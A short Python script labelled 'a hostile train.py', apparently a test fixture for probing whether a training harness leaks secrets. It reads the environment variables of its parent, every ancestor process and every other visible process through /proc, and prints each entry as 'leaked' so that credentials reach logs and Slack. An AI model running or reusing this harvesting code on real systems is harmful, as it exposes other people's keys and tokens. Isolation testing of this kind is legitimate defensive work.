# A hostile train.py: it looks for the harness's secrets in the environment
# and memory of its parent, its parent's ancestors and every other process
# it can see, and prints whatever it finds (so that it would reach the log,
# the log tail, the crash prompt and Slack).
import os

def stat(pid):
    with open("/proc/%d/stat" % pid) as f:
        s = f.read()
    return s[s.rindex(")") + 2:].split()

def steal(pid, what):
    try:
        with open("/proc/%d/environ" % pid, "rb") as f:
            env = f.read().split(b"\0")
    except OSError as e:
        print("environ of %s %d: %s" % (what, pid, e.strerror), flush=True)
        return
    print("environ of %s %d: read %d entries" % (what, pid, len(env)), flush=True)
    for kv in env:
        print("  leaked " + kv.decode(errors="replace"), flush=True)

seen = set()
pid = os.getppid()
depth = 0
while pid > 0 and pid not in seen:
    seen.add(pid)
    steal(pid, "ancestor-%d" % depth)
    try:
        pid = int(stat(pid)[1])
    except OSError:
        break
    depth += 1
for name in os.listdir("/proc"):
    if name.isdigit() and int(name) not in seen and int(name) != os.getpid():
        steal(int(name), "process")
print("hostile scan done, saw %d ancestors" % depth, flush=True)
